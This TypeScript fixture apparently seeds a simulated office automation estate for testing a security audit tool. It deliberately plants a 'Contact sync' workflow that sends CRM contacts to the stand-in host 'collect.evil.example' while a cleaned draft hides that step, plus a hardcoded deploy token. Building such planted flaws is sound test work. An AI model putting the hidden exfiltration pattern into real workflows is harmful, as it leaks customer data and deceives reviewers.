import { idOf } from './chance.ts';
import type { EstateSketch, WorkflowSketch } from './sketch.ts';
import { uses } from './sketch.ts';
import {
  callWorkflow,
  calledByOthers,
  code,
  dailyAt,
  everyMinutes,
  guardedWebhook,
  http,
  httpAnywhere,
  mondaysAt,
  nothing,
  openWebhook,
  service,
  waitMinutes,
} from './steps.ts';

/**
 * The office of the same company. One workflow sends contacts to the thief, and its draft was
 * cleaned so that the editor shows nothing of it.
 */
export function office(seed: string): EstateSketch {
  return {
    project: 'Office',
    people: [
      ['noor', 'Noor Haddad', 'noor@acme.test', 'global:owner'],
      ['dana', 'Dana Holt', 'dana@acme.test', 'global:member'],
      ['milo', 'Milo Brandt', 'milo@acme.test', 'global:member'],
    ],
    credentials: [
      ['crm', 'HubSpot CRM', 'hubspotApi', 'noor'],
      ['gmail', 'Team inbox', 'gmailOAuth2', 'noor'],
      ['hr', 'HR system', 'httpHeaderAuth', 'noor'],
      ['jira', 'Jira', 'jiraSoftwareCloudApi', 'dana'],
      ['model', 'Language model', 'openAiApi', 'dana'],
      ['bucket', 'Backups bucket', 'aws', 'noor'],
      ['platform', 'Automation API', 'httpHeaderAuth', 'dana'],
    ],
    workflows: [...sales, ...staff, ...operations, hardCoded(seed)],
  };
}

const hubspot = (name: string) => http(name, 'api.hubapi.com', uses('crm'));

const sales: readonly WorkflowSketch[] = [
  {
    key: 'contacts',
    name: 'Contact sync',
    owner: 'milo',
    tags: ['sales'],
    steps: [openWebhook('contact-sync'), hubspot('Read'), http('Mirror', 'collect.evil.example')],
    draft: [openWebhook('contact-sync'), hubspot('Read'), nothing()],
    savedDaysAgo: 2,
    visitorEverySeconds: 75,
  },
  {
    key: 'lead',
    name: 'Lead from website',
    owner: 'noor',
    tags: ['sales'],
    steps: [openWebhook('lead'), hubspot('Create contact'), callWorkflow('score')],
    visitorEverySeconds: 180,
  },
  {
    key: 'score',
    name: 'Score a lead',
    owner: 'noor',
    tags: ['sales'],
    steps: [
      calledByOthers(),
      http('Ask the model', 'api.openai.com', uses('model')),
      code('Score', 'return $input.all();'),
    ],
  },
  {
    key: 'digest',
    name: 'Pipeline digest',
    owner: 'noor',
    tags: ['sales'],
    steps: [mondaysAt('08:00'), hubspot('Read deals'), service('Mail', 'gmail', uses('gmail'))],
  },
  {
    key: 'enrich',
    name: 'Enrich companies',
    owner: 'milo',
    tags: ['sales'],
    steps: [
      everyMinutes(20),
      hubspot('Read'),
      { ...service('Look up', 'clearbit', uses('crm')), package: 'n8n-nodes-company-lookup' },
    ],
  },
  {
    key: 'quote',
    name: 'Quote approval',
    owner: 'noor',
    tags: ['sales'],
    steps: [guardedWebhook('quote'), waitMinutes(240), hubspot('Update deal')],
    visitorEverySeconds: 3_600,
  },
];

const staff: readonly WorkflowSketch[] = [
  {
    key: 'onboard',
    name: 'Onboard a colleague',
    owner: 'noor',
    tags: ['people'],
    steps: [
      guardedWebhook('onboard'),
      http('Create record', 'hr.acme.example', uses('hr')),
      service('Create task', 'jira', { host: 'acme.atlassian.example', ...uses('jira') }),
    ],
    visitorEverySeconds: 7_200,
  },
  {
    key: 'leave',
    name: 'Leave requests',
    owner: 'noor',
    tags: ['people'],
    steps: [
      { name: 'New mail', type: 'gmailtrigger', listens: true, ...uses('gmail') },
      http('File', 'hr.acme.example', uses('hr')),
    ],
  },
  {
    key: 'birthday',
    name: 'Birthdays',
    owner: 'dana',
    tags: ['people'],
    steps: [dailyAt('08:00'), http('Read', 'hr.acme.example', uses('hr')), nothing()],
  },
  {
    key: 'payroll',
    name: 'Payroll export',
    owner: 'noor',
    tags: ['people', 'finance'],
    steps: [
      dailyAt('22:00'),
      http('Read', 'hr.acme.example', uses('hr')),
      http('Upload', 'files.bank.example'),
    ],
    keepsNoExecutions: true,
  },
  {
    key: 'survey',
    name: 'Survey 2025',
    owner: 'dana',
    steps: [openWebhook('survey-2025'), service('Save', 'postgres')],
    isOff: true,
  },
];

const operations: readonly WorkflowSketch[] = [
  {
    key: 'tickets',
    name: 'Mail → ticket',
    owner: 'dana',
    tags: ['support'],
    steps: [
      everyMinutes(5),
      service('Read inbox', 'gmail', { host: 'gmail.googleapis.com', ...uses('gmail') }),
      service('Create ticket', 'jira', { host: 'acme.atlassian.example', ...uses('jira') }),
    ],
  },
  {
    key: 'triage',
    name: 'Ticket triage',
    owner: 'dana',
    tags: ['support'],
    steps: [
      guardedWebhook('ticket'),
      http('Classify', 'api.openai.com', uses('model')),
      service('Label', 'jira', uses('jira')),
    ],
    visitorEverySeconds: 150,
  },
  {
    key: 'backup',
    name: 'Back up workflows',
    owner: 'dana',
    tags: ['operations'],
    steps: [
      dailyAt('02:00'),
      {
        ...http('Read all', 'automation.acme.example', uses('platform')),
        usesPlatformApi: true,
      },
      service('Upload', 's3', { host: 's3.amazonaws.com', ...uses('bucket') }),
    ],
  },
  {
    key: 'health',
    name: 'Uptime check',
    owner: 'dana',
    tags: ['operations'],
    steps: [everyMinutes(1), http('Ping', 'www.acme.example'), httpAnywhere('Ping the rest')],
  },
  {
    key: 'faq',
    name: 'Answer questions',
    owner: 'milo',
    tags: ['support'],
    steps: [
      guardedWebhook('faq'),
      http('Ask the model', 'api.openai.com', uses('model')),
      code('Shorten', 'return $input.first();'),
    ],
    draft: [guardedWebhook('faq'), http('Ask the model', 'api.anthropic.com', uses('model'))],
    visitorEverySeconds: 100,
  },
  {
    key: 'newsletter',
    name: 'Newsletter',
    owner: 'milo',
    tags: ['marketing'],
    steps: [
      openWebhook('newsletter-send'),
      { ...service('Send to all', 'gmail', uses('gmail')), worksMs: 1_200_000, goesOn: true },
    ],
    visitorEverySeconds: 900,
  },
  {
    key: 'contract',
    name: 'Contract reminders',
    owner: 'noor',
    tags: ['finance'],
    steps: [mondaysAt('09:15'), service('Mail', 'gmail', uses('gmail'))],
  },
  {
    key: 'invoices',
    name: 'Incoming invoices',
    owner: 'noor',
    tags: ['finance'],
    steps: [
      everyMinutes(15),
      service('Read inbox', 'gmail', uses('gmail')),
      code('Read amounts', 'return $input.all();'),
      service('Upload', 's3', { host: 's3.amazonaws.com', ...uses('bucket') }),
    ],
  },
];

/** Somebody wrote a secret into it. */
function hardCoded(seed: string): WorkflowSketch {
  return {
    key: 'deploy',
    name: 'Deploy notes',
    owner: 'dana',
    tags: ['operations'],
    steps: [
      openWebhook('deploy'),
      {
        ...http('Post', 'chat.acme.example'),
        secret: { label: 'bearer token', text: `deploy-${idOf(seed, 'deploy token')}` },
      },
    ],
    visitorEverySeconds: 1_800,
  };
}
